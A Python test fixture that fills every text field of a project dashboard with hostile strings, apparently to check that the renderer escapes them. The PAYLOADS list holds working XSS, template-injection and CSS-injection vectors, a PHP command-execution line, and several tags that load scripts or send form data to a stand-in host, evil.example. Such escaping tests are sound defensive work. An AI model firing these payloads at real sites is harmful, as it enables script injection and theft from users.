"""Text that wants to be more than text on a page."""

from __future__ import annotations

from gitbaton.dashboard.models import Dashboard
from gitbaton.hosting.remote_host import Hosting
from gitbaton.plan.graph import Graph
from gitbaton.project.file_overlap import MergeConflict, Overlap, Overlaps, Side, TaskLocation
from gitbaton.reports.claim_history import claim_history_of
from gitbaton.reports.stats import compute_stats
from gitbaton.rules.findings import Finding, Report
from gitbaton.status.task_status import PlanStatus
from support.dashboards import NOW, OID, feature, node, task, told, worked

PAYLOADS = (
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</style><script>alert(1)</script>",
    "</style ><style>*{display:none}",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"onfocus=alert(1) autofocus tabindex=1 x="',
    '" style="position:fixed;inset:0" x="',
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "&#x6a;avascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;&amp;lt;",
    "&quot; onclick=&quot;alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "</svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=javascript:alert(1)>x",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>x",
    "<a href=//evil.example/ ping=//evil.example/>x</a>",
    "<details open ontoggle=alert(1)>",
    "</details></table></main>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x SYSTEM '//evil.example/'>",
    "<?php system('id') ?>",
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{% include 'page.html' %}",
    "{% for x in [].__class__.__base__.__subclasses__() %}",
    "{# comment #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "expression(alert(1)); background:url(//evil.example/)",
    "}*{display:none}/*",
    "@import '//evil.example/x.css';",
    '#t-1.1.1" onclick="alert(1)',
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "one\u2028two\u2029<b>three",
    "\u202e>txet desrever<",
    "\u2066isolated\u2069 \u200f\u061c",
    "zero\u200bwidth\u200d\ufeff<i>x",
    "nul\x00<b>in the middle",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b[31mred\x1b]0;title\x07<u>",
    "\x08\x0b\x0c\x7f\x9b<b>",
    "lone \udc80 surrogate \udcff<b>",
    "fullwidth ＜script＞alert(1)＜/script＞",
    "\u00ad\u2060\u3164<b>blank",
    "𝒽\U000e0061\U000e007f<b>tags",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&" * 500,
    "<" * 100_000,
    "<b>" + "x" * 1_000_000,
)

WHERE = "1.1.1"  # an ID that the grammar of tasks allows


def with_text(text: str) -> Dashboard:
    """A project that says the text wherever a project can say what it likes."""
    happened = (
        told("START", text, WHERE, NOW - 90),
        worked("feat(1.1.1): x", WHERE, NOW - 80),
        told("DONE", text, WHERE, NOW - 70),
        told("START", text, "1.1.2", NOW - 60),
    )
    work = happened[1].work
    assert work is not None
    said = worked("", WHERE, NOW - 80)
    happened = (
        happened[0],
        said.replace(work=work.replace(subject=work.subject.replace(text=text))),
        *happened[2:],
    )
    lines = [
        task(WHERE, text, "done", text),
        task("1.1.2", text, "stale", text),
        task("1.1.3", text),
    ]
    shop = feature("1.1", lines, title=text).replace(track=text, path=text, branch=text)
    board = PlanStatus((shop,), offline=text)
    claim_history = claim_history_of(happened)
    finding = Finding("L101", text, f"{text}\n{text}", path=text, commit=OID, ref=text)
    return Dashboard(
        text,
        NOW,
        board,
        compute_stats(claim_history, board, 0, NOW),
        claim_history,
        Graph((node("1.1", title=text).replace(path=text, track=text),), (), ((text, text),)),
        happened,
        Report((finding, finding.replace(path=None, commit=None))),
        Overlaps((_collision(text),)),
        {f"refs/heads/{text}": OID},
        f"refs/heads/{text}",
        Hosting("github", "github.com", f"acme/{text}"),
        (text,),
    )


def _collision(text: str) -> Overlap:
    spot = TaskLocation(WHERE, text, 3, text, changed=True)
    sides = (Side(text, text, True, (spot,)), Side("1.2", "b", True))
    return Overlap(text, "conflict", sides, (MergeConflict(text, (text, text), text),))
